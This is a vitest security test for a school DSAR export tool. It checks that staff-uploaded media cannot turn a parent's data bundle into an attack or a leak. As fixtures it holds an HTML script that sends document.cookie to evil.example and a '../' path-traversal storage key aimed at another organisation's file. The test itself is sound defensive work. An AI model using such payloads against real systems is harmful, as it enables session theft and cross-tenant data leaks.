// What a school's staff upload cannot turn a parent's bundle into an attack
// or a leak (issue 16): media only from the organisation's own part of the
// store, under an extension chosen by content type from a fixed list
// (anything else as .bin), and no server path anywhere in the bundle.
import { createHash } from 'node:crypto';
import { cp, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { runCli } from '../support/cli.js';
import { createTestDatabase, type TestDatabase } from '../support/db.js';
import { ACORNS, OAK, OAK_PRIMARY, demoId } from '../support/demo-ids.js';
import { readZip } from '../support/zip.js';

let db: TestDatabase;
let work: string;
let mediaDir: string;
const CHILD = demoId('child:oak-primary:3');
const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');

beforeAll(async () => {
  db = await createTestDatabase();
  work = await mkdtemp(join(tmpdir(), 'trustctl-hostile-bundle-'));
  mediaDir = join(work, 'media');
  await cp(inject('mediaDir'), mediaDir, { recursive: true });
});
afterAll(async () => {
  await db?.drop();
  if (work) await rm(work, { recursive: true, force: true });
});

async function plantMedia(key: string, content: string, contentType: string): Promise<string> {
  const id = (await db.admin.query(
    `insert into media_files (org_id, site_id, child_id, storage_key, content_type, size_bytes, sha256, caption)
     values ($1, $2, $3, $4, $5, $6, $7, 'uploaded by staff') returning id`,
    [OAK, OAK_PRIMARY, CHILD, key, contentType, Buffer.byteLength(content), sha256(content)])).rows[0].id as string;
  return id;
}

describe('media in a DSAR bundle', () => {
  it('an uploaded HTML file travels inert, another organisation’s file never travels, and no server path is written', async () => {
    // A teacher's "report card" that would run script if opened from the bundle.
    const html = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script>Report</body></html>\n';
    const htmlKey = `${OAK}/${OAK_PRIMARY}/${CHILD}/report-card.html`;
    await mkdir(join(mediaDir, OAK, OAK_PRIMARY, CHILD), { recursive: true });
    await writeFile(join(mediaDir, htmlKey), html);
    const htmlId = await plantMedia(htmlKey, html, 'text/html');
    // Another organisation's file, whose hash the uploader learnt: named by a record of this child.
    const secret = 'Little Acorns: private letter\n';
    const foreignKey = `${ACORNS}/nursery/someone/letter.txt`;
    await mkdir(join(mediaDir, ACORNS, 'nursery', 'someone'), { recursive: true });
    await writeFile(join(mediaDir, foreignKey), secret);
    const foreignId = await plantMedia(foreignKey, secret, 'text/plain');
    // And the same file reached with dots from inside Oak's prefix.
    const dottedId = await plantMedia(`${OAK}/../${foreignKey}`, secret, 'text/plain');

    const op = db.url('trustctl_test_op');
    const open = await runCli(['--database-url', op, 'dsar', 'request', 'open', '--org', 'oak-trust', '--subject', CHILD, '--request', 'SAR-MEDIA-1']);
    expect(open.code, open.stderr).toBe(0);
    const out = await mkdtemp(join(work, 'out-'));
    const exp = await runCli(['--database-url', op, '--json', 'dsar', 'export', '--org', 'oak-trust', '--subject', CHILD, '--request', 'SAR-MEDIA-1',
      '--out', out, '--media-dir', mediaDir]);
    expect(exp.code, exp.stderr).toBe(0);
    const path = JSON.parse(exp.stdout).path as string;
    const files = await readZip(path);

    // The HTML is there, as .bin, byte for byte, and the manifest says why.
    expect(files.has(`media/${htmlId}.html`)).toBe(false);
    expect(files.get(`media/${htmlId}.bin`)?.toString('utf8')).toBe(html);
    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8'));
    expect(manifest.media_neutralised).toEqual([expect.objectContaining({ media_id: htmlId, path: `media/${htmlId}.bin`, content_type: 'text/html' })]);
    // The other organisation's file is not in the bundle, by either route; the manifest names the refusal.
    for (const [name, content] of files) expect({ name, leaks: content.includes(Buffer.from(secret)) }).toEqual({ name, leaks: false });
    expect(manifest.media_unavailable.map((u: { media_id: string }) => u.media_id).sort()).toEqual([dottedId, foreignId].sort());
    // No file of the bundle names where the server keeps media.
    for (const [name, content] of files) expect({ name, path: content.includes(Buffer.from(mediaDir)) }).toEqual({ name, path: false });

    const verify = await runCli(['dsar', 'verify', path]);
    expect(verify.code, verify.stdout + verify.stderr).toBe(0);
  });
});
